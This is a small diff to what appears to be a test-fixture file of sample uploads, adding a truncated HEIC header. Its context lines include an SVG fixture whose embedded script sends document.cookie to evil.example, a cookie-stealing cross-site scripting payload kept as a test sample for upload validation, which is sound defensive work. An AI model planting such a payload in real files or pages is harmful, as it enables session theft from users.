@@ -58,3 +58,12 @@ export const pdfNamedJpg = Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> e
 export const svgWithScript = Buffer.from(
   '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="800" height="600"><script>fetch("https://evil.example/"+document.cookie)</script><rect width="800" height="600" fill="red"/></svg>',
 );
+
+/** The start of an iPhone HEIC file (an ISO-BMFF "ftyp" box naming HEIC brands), cut short. */
+export const heicStart = Buffer.concat([
+  Buffer.from([0, 0, 0, 0x18]),
+  Buffer.from('ftypheic', 'latin1'),
+  Buffer.from([0, 0, 0, 0]),
+  Buffer.from('mif1heic', 'latin1'),
+  Buffer.alloc(64),
+]);
